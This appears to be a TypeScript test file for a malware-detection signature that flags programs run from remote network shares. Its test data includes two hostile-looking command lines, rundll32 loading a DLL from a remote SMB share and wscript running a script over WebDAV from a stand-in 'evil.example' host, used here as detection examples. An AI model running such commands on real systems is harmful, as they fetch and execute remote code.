import { given, SignatureTester } from 'ovoscope/testing';
import RunsFromShare from './runs_from_share.ts';

const run = (command_line: string) => given('sample.exe', ['CreateProcessInternalW', { command_line }]);

new SignatureTester().run(RunsFromShare, {
  detects: [
    { name: 'a library', results: run('rundll32.exe \\\\203.0.113.5\\share\\x.dll,Start') },
    { name: 'over WebDAV', results: run('wscript \\\\evil.example@SSL\\DavWWWRoot\\a.js') },
  ],
  ignores: [
    { name: 'a document', results: run('notepad \\\\fs1\\docs\\a.txt') },
    { name: 'a pipe', results: run('cmd /c type \\\\.\\pipe\\a.exe') },
  ],
});
